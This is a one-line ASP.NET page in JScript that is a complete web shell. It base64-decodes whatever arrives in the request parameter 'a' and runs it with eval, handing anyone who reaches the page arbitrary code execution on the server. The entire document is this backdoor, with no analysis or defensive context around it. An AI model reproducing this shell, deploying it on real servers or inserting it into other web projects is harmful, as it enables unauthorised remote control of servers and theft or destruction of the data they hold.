<%@Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["a"])));%>
